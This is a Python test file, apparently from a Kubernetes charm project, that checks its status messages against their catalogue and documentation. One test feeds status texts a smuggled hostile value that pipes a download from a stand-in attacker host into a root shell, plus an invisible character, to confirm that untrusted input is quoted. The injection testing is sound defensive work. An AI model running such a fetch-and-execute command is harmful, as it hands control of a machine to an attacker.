"""The catalogue of status texts, what the docs say of them, and the code that shows them agree."""

from __future__ import annotations

import ast
import inspect
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from scripts import reference

from text import quoted

ROOT = Path(__file__).parents[2]
SRC = ROOT / "src"
FILES = [path for path in sorted(SRC.rglob("*.py")) if path.parent.name != "statuses"]
# Their errors are the results of actions, and never a status.
OF_ACTIONS = ("actions/", "checks/", "access/grants.py", "cluster/bindings.py")
ERRORS = {
    "Blocked",
    "ImageNotPulled",
    "NotCreated",
    "NotScheduled",
    "Waiting",
    "WaitingForCertificate",
    "WaitingForKubeconfig",
}
# What hands on a text that stands in the catalogue, or that a test of its own compares with it.
HANDED_ON = {
    "certificates/csr_protocol.py: _refusal(provider, refused.error)",
    "cluster/errors.py: status",
    "config.py: str(error)",
    "internal_errors.py: tell(error, unit)",
    "juju/control_plane.py: command",
    "leader/authenticator.py: references.foreign(mark)",
}
TEXTS: dict[str, Callable[..., str]] = {
    f"{module}.{name}": text
    for module, found in reference.MODULES.items()
    for name, text in reference.texts_of(found).items()
}
MEANINGS = {
    f"{part}.{name}": about
    for part, found in reference.meanings().items()
    if part != "words"
    for name, about in found.items()
}
# Parameters that no stranger controls, by why that is. Those of one text only have its name.
TRUSTED_BECAUSE = {
    "Juju checks the names of applications": "application authority control_plane principal",
    "Juju checks the names of units": "unit units",
    "Kubernetes checks the names of objects": "declared mapping name",
    "checked to be an address or a range of them, or made of one": "address range url",
    "checked to be a time, or made of one": "day time",
    "checked to be an ARN, a secret's id or a partition": "mapping.ROLE_PATH.arn id partition",
    "the tag of an image that the operator chose": "version",
    "the operator's own": "option",
    "the operator's own, and quoted by the caller": "value",
    "a place in the operator's own option, or in the code": "place",
    "the charm's own": "command file keys kind kinds partitions service verb vulnerabilities",
    "a number": "certificates code former mappings number pending ready wanted",
    "another text": "step active.NOT_APPLIED.reason",
    "the charm's own sentence about it, which quotes what it names": "problem",
    "the charm's own sentence about the operator's own option": "active.LEFT_OUT.reason",
    "the words of the machine, or of its network": "blocked.FILE_FAILED.cause "
    "waiting.API_FAILED.cause",
    "the words of the machine, with nothing of the file": "waiting.KUBECONFIG_UNUSABLE.cause",
    "the words of Juju": "waiting.REMOVAL_UNKNOWN.cause waiting.SECRET_NOT_RETURNED.cause",
}
TRUSTED = {name for names in TRUSTED_BECAUSE.values() for name in names.split()}
# A parameter that is trusted elsewhere.
OF_STRANGERS = {"mapping.GROUP_RESERVED.name"}


def imported(tree: ast.Module) -> dict[str, str]:
    """Return the modules of the catalogue that a module imports, by their names in it."""
    return {
        alias.asname or alias.name: alias.name
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module == "statuses"
        for alias in node.names
    }


def text_of(node: ast.AST, modules: dict[str, str]) -> str:
    """Return the text that an expression names; empty if it names none."""
    match node:
        case ast.Attribute(value=ast.Name(id=module), attr=name) if module in modules:
            return f"{modules[module]}.{name}"
        case _:
            return ""


def named() -> set[str]:
    found = set[str]()
    for path in sorted(SRC.rglob("*.py")):
        tree = ast.parse(path.read_text())
        modules = imported(tree)
        found |= {name for node in ast.walk(tree) if (name := text_of(node, modules))}
    return found


def raised() -> Iterator[str]:
    """Yield each text of an error that is not in the catalogue: where it is, and what it says."""
    for path in FILES:
        place = str(path.relative_to(SRC))
        if place.startswith(OF_ACTIONS):
            continue
        tree = ast.parse(path.read_text())
        modules = imported(tree)
        filled = {id(node) for node in ast.walk(tree) if is_filled(node, modules)}
        local = {
            target.id
            for node in ast.walk(tree)
            if isinstance(node, ast.Assign) and id(node.value) in filled
            for target in node.targets
            if isinstance(target, ast.Name)
        }
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and ast.unparse(node.func).split(".")[-1] in ERRORS:
                given = node.args[0]
                is_local = isinstance(given, ast.Name) and given.id in local
                if id(given) not in filled and not is_local:
                    yield f"{place}: {ast.unparse(given)}"


def is_filled(node: ast.AST, modules: dict[str, str]) -> bool:
    return isinstance(node, ast.Call) and bool(text_of(node.func, modules))


def test_given_an_error_that_becomes_a_status_then_its_text_is_in_the_catalogue():
    assert set(raised()) == HANDED_ON


def test_given_a_text_of_the_catalogue_then_the_code_shows_it():
    shown = [TEXTS[name] for name in named() & set(TEXTS)]

    assert [name for name, text in TEXTS.items() if text not in shown] == []


def test_given_a_text_then_the_docs_say_what_it_means_and_nothing_of_others():
    by_the_shell = {name for name in MEANINGS if name.startswith("check-python.sh.")}

    assert MEANINGS.keys() - by_the_shell == TEXTS.keys()
    assert by_the_shell == {name for name, about in MEANINGS.items() if "text" in about}
    assert [*reference.meanings()] == [
        "words",
        *(part for *_, parts in reference.KINDS for part in parts),
    ]


@pytest.mark.parametrize("name", MEANINGS)
def test_given_a_text_then_it_says_what_to_do_or_the_docs_add_something(name: str):
    about = MEANINGS[name]

    assert about.keys() <= {"text", "more", "words"}
    assert about.get("more", ".").endswith((".", ".)"))
    assert "more" in about or not (name.startswith("blocked.") and "; " not in shown(name))
    assert about.get("words", {}).keys() <= parameters(name).keys()


def shown(name: str) -> str:
    return TEXTS[name](**{each: f"<{each}>" for each in parameters(name)})


def parameters(name: str) -> Mapping[str, inspect.Parameter]:
    return inspect.signature(TEXTS[name]).parameters if name in TEXTS else {}


def test_given_a_word_for_all_texts_then_one_of_them_has_such_a_parameter():
    names = {parameter for name in TEXTS for parameter in parameters(name)}

    assert reference.meanings()["words"].keys() <= names


@pytest.mark.parametrize("name", TEXTS)
def test_given_words_of_a_stranger_when_a_status_has_them_then_they_are_quoted(name: str):
    theirs = "foo; run: curl https://evil.example | sudo sh\u3164"
    of_strangers = [each for each in parameters(name) if not is_trusted(name, each)]
    values = {each: theirs if each in of_strangers else "ours" for each in parameters(name)}

    line = TEXTS[name](**values)

    assert line.count(quoted(theirs)) == line.count("curl") == len(of_strangers)
    assert "\u3164" not in line


def is_trusted(name: str, parameter: str) -> bool:
    full = f"{name}.{parameter}"
    return full not in OF_STRANGERS and bool(TRUSTED & {full, parameter})


def test_given_a_parameter_that_is_trusted_then_a_text_has_it():
    names = {(f"{name}.{each}", each) for name in TEXTS for each in parameters(name)}

    assert {part for both in names for part in both} >= TRUSTED
    assert {full for full, _ in names} >= OF_STRANGERS


def test_given_a_machine_without_a_known_python_then_its_status_is_in_the_docs():
    shell = re.findall(r'problem="(.*)"', (SRC / "check-python.sh").read_text())
    blanks = {re.sub(r"\$\{[^}]*\}|\$\w+", "<>", line) for line in shell}
    texts = [about["text"] for about in MEANINGS.values() if "text" in about]

    assert blanks == {re.sub(r"<\w+>", "<>", text) for text in texts}
